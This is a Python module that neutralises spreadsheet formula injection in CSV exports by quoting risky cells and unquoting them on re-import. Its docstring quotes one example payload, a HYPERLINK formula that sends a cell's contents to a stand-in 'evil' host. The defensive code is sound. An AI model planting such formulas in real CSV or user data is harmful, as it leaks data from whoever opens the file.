"""CSV cells that a spreadsheet will not run as formulas.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
after a tab or carriage return, the same) as a formula: a borrower's name of
``=HYPERLINK("http://evil/?"&A1)`` would run on the lender's machine. Every CSV DueCall writes for
people to open (the audit page's export, the import's rejects file) passes its cells through
:func:`cell`, which puts a ``'`` in front of such a cell (OWASP's advice). A ``+`` or ``-`` followed
only by digits and spaces (a phone number, a negative count) is left alone: it is a number, not a
formula. :func:`uncell` takes the ``'`` off again when such a file is read back (a rejects file
being re-imported).
"""

from __future__ import annotations

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _runs_as_formula(text: str) -> bool:
    if text[:1] in ("+", "-"):
        return not text[1:].replace(" ", "").isdigit()
    return text[:1] in _FORMULA_STARTS


def cell(value: object) -> str:
    """`value` as a CSV cell that a spreadsheet shows as text."""
    text = "" if value is None else str(value)
    return "'" + text if _runs_as_formula(text) else text


def uncell(text: str) -> str:
    """The value :func:`cell` was given, for a cell it wrote; any other text as it is."""
    return text[1:] if text[:1] == "'" and _runs_as_formula(text[1:]) else text
